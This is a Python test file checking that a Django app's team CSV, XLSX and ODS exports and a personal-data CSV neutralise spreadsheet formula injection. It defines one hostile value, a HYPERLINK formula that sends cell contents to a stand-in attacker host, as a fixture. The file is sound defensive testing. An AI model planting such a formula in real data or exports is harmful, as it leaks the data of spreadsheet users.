"""A hostile name never becomes a live formula in any export: the team's CSV, XLSX and ODS
(served at once or built in the background) and the agent's own "Mes données" CSV."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from learners.team.exports import build_export
from learners.team.models import TeamExport
from tests.learners.team.builders import build_org
from tests.learners.team.test_exports_team import ods_rows

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
NEUTRALISED = "'" + HOSTILE


@pytest.fixture(scope="module")
def org(module_db):
    org = build_org()
    org.a1.last_name = HOSTILE
    org.a1.first_name = "Alice\x07"  # a control character XML cannot hold
    org.a1.save(update_fields=["last_name", "first_name"])
    return org


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def served(client, org, fmt) -> bytes:
    client.force_login(org.manager)
    response = client.get(reverse("team_export", args=["agents", fmt]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def alice(rows):
    (row,) = [row for row in rows if row and row[2] == "a1@campus.example"]
    return row


def test_exports_formula_injection_csv(client, org):
    row = alice(csv_cells(served(client, org, "csv")))
    assert row[0] == NEUTRALISED
    assert row[1] == "Alice"


def test_exports_formula_injection_xlsx(client, org):
    workbook = openpyxl.load_workbook(io.BytesIO(served(client, org, "xlsx")))
    (row,) = [r for r in workbook.active.iter_rows() if r[2].value == "a1@campus.example"]
    assert row[0].data_type == "s"  # a string, not a formula ("f")
    assert row[0].value == NEUTRALISED
    assert row[1].value == "Alice"


def test_exports_formula_injection_ods(client, org):
    row = alice(ods_rows(served(client, org, "ods")))
    assert row[0] == NEUTRALISED
    assert row[1] == "Alice"


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_exports_formula_injection_background_exports(org, fmt):
    """Large exports, written by the background task, use the same cells."""
    export = TeamExport.objects.create(
        requested_by=org.manager, table="agents", format=fmt, filters={}
    )
    export = build_export(export_id=export.pk)
    assert export.status == TeamExport.Status.READY
    content = export.file.read()
    if fmt == "csv":
        assert alice(csv_cells(content))[0] == NEUTRALISED
    elif fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        (row,) = [r for r in sheet.iter_rows() if r[2].value == "a1@campus.example"]
        assert (row[0].data_type, row[0].value) == ("s", NEUTRALISED)
    else:
        assert alice(ods_rows(content))[0] == NEUTRALISED


def test_exports_formula_injection_personal_data_csv(client, org):
    client.force_login(org.a1)
    response = client.get(reverse("personal_data_zip"))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    profile = csv_cells(archive.read("profil.csv"))
    values = dict(zip(profile[0], profile[1], strict=True))
    assert NEUTRALISED in values.values()
    assert HOSTILE not in values.values()
